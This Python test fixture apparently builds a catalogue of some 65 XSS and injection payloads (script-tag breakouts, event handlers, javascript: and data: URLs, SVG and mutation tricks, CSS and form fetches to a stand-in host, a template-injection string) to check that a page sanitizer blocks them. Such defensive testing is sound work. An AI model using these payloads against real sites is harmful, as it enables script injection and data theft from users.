"""What was tried to make a page run something, or fetch something.

Each attack notes its name in ``RAN``, or asks for something of ``evil.invalid`` if it has its way.
"""

from __future__ import annotations

from base64 import b64encode

from tests.handouts.notebooks import PNG

# Without quotes and spaces, so that it fits into every one of them.
_RUN = "(window.RAN=window.RAN||[]).push(/{name}/.source)"
_EVIL = "https://evil.invalid/{name}"

# Name -> the attack. {run} is a script that tells on itself, {evil} an address that nobody has.
_TRIED = {
    "script": "<script>{run}</script>",
    "script-cased": "<ScRiPt type=module>{run}</sCrIpT >",
    "script-src": '<script src="{evil}.js"></script>',
    "script-split": "<scr<script>ipt>{run}</scr</script>ipt>",
    "end-of-data": "</script><script>{run}</script>",
    "end-of-style": "</style><script>{run}</script>",
    "end-of-title": "</title><script>{run}</script>",
    "end-of-main": "</div></main></body></html><script>{run}</script>",
    "end-of-comment": "--><script>{run}</script><!--",
    "comment": "<!--><script>{run}</script>-->",
    "cdata": "<![CDATA[><img src='{png}' alt='' onload='{run}'>]]>",
    "declaration": "<!x><?y><img src='{png}' alt='' onload='{run}'>",
    "onerror": "<img src='{png}' alt='' onload='{run}' onerror='{run}'>",
    "onerror-bare": "<img/src='{png}'/alt=''/onload={run}>",
    "onerror-open": "<img src='{png}' alt='' onload='{run}' onerror='{run}' ",
    "attribute-end": "\"><img src='{png}' alt='' onload='{run}' onerror='{run}'><a title=\"",
    "attribute-end-single": "'><img src='{png}' alt='' onload=\"{run}\"><a title='",
    "onload-body": "<body onload='{run}'>",
    "onclick": "<p onclick='{run}' onmouseover='{run}'>Press</p>",
    "onfocus": "<p tabindex=0 autofocus onfocus='{run}'>Focus</p>",
    "ontoggle": "<details open ontoggle='{run}'><summary>Open</summary></details>",
    "onanimation": "<p style='animation: x 1s' onanimationstart='{run}'>Move</p>",
    "javascript": "<a href='javascript:{run}'>Press</a>",
    "javascript-hidden": "<a href='&#106;ava\tscript&colon;{run}'>Press</a>",
    "javascript-markdown": "[Press](javascript:{run})",
    "javascript-reference": "[Press][1]\n\n[1]: javascript:{run}",
    "autolink": "<javascript:{run}>",
    "data-html": "<a href='data:text/html,<script>{run}</script>'>Press</a>",
    "data-picture": "<img alt='' src='data:image/svg+xml;base64,{svg}'>",
    "svg-onload": "<svg onload='{run}'><circle r=5 /></svg>",
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:{run}'/>Press</a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml;base64,{svg}#x'></use></svg>",
    "math": "<math href='javascript:{run}'><mtext><b onclick='{run}'>x</b></mtext></math>",
    "mutation": "<svg></p><style><a id='</style><img src={png} alt= onload={run}>'>",
    "noscript": "<noscript><p title='</noscript><img src={png} alt= onload={run}>'></noscript>",
    "textarea": "<textarea><p title='</textarea><img src={png} alt= onload={run}>'></textarea>",
    "xmp": "<xmp><p title='</xmp><img src={png} alt= onload={run}>'></xmp>",
    "template": "<template shadowrootmode=open><img src='{png}' alt='' onload='{run}'></template>",
    "iframe": "<iframe src='{evil}'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "iframe-javascript": "<iframe src='javascript:parent.{run}'></iframe>",
    "object": "<object data='{evil}'></object><embed src='{evil}'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={evil}'>",
    "base": "<base href='{evil}/'>",
    "link": "<link rel=stylesheet href='{evil}.css'><link rel=preload as=image href='{evil}.png'>",
    "style-import": "<style>@import url({evil}.css); p {{ background: url({evil}) }}</style>",
    "style-url": "<p style='background: url({evil}.png)'>Look</p>",
    "style-image-set": "<p style='background: image-set(\"{evil}.png\" 1x)'>Look</p>",
    "style-list": "<ul><li style='list-style: url({evil}.png)'>Look</li></ul>",
    "style-variable": "<p style='--x: url({evil}.png); color: red; background: var(--x)'>Look</p>",
    "style-over-all": "<p style='position: fixed; inset: 0; z-index: 99'>Look</p>",
    "form": "<form action='{evil}'><input name=q><button>Send</button></form>",
    "formaction": "<button formaction='javascript:{run}'>Send</button>",
    "media": "<video src='{evil}.mp4' onerror='{run}' autoplay></video><audio src='{evil}.mp3'>",
    "picture-source": "<picture><source srcset='{evil}.png'></picture>",
    "background": "<table background='{evil}'><tr><td background='{evil}'>x</td></tr></table>",
    "ping": "<a href='#x' ping='{evil}'>Press</a>",
    "clobber": "<img alt='' src='data:image/svg+xml;base64,{svg}' name=querySelectorAll id=parts>",
    "part": "<div data-sc-place=0></div><div class=sc-alive data-kind=form></div>",
    "template-language": "{{{{ cycler.__init__.__globals__.os.getcwd() }}}}{{% for x in y %}}",
    "entities": "&lt;script&gt;{run}&lt;/script&gt;",
    "null": "<\0script>{run}</\0script><img src='{png}' alt='' on\0load='{run}'>",
    "line-separator": "\u2028<script>{run}</script>\u2029",
}


def run_of(name: str) -> str:
    """Return a script that tells on itself."""
    return _RUN.format(name=name)


def svg_of(name: str) -> str:
    """Return a drawing that does all that a drawing can."""
    run, evil = run_of(name), _EVIL.format(name=name)
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 9 9" onload="{run}"><script>{run}</script><script href="{evil}.js"/>'
        f'<image xlink:href="{evil}"/><style>@import url({evil}.css);</style><foreignObject>'
        f'<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run}"/></body>'
        f'</foreignObject><a href="javascript:{run}"><path d="M0 0h9v9z"/></a>'
        '<path id="x" d="M0 0h9v9z"/></svg>'
    )


def attacks(at: str) -> dict[str, str]:
    """Return every attack by name, so worded that it tells where it was tried."""
    made = {}
    for name, attack in _TRIED.items():
        full = f"{name}@{at}"
        svg = b64encode(svg_of(full).encode()).decode()
        png = f"data:image/png;base64,{PNG}"
        made[name] = attack.format(run=run_of(full), evil=_EVIL.format(name=full), svg=svg, png=png)
    return made
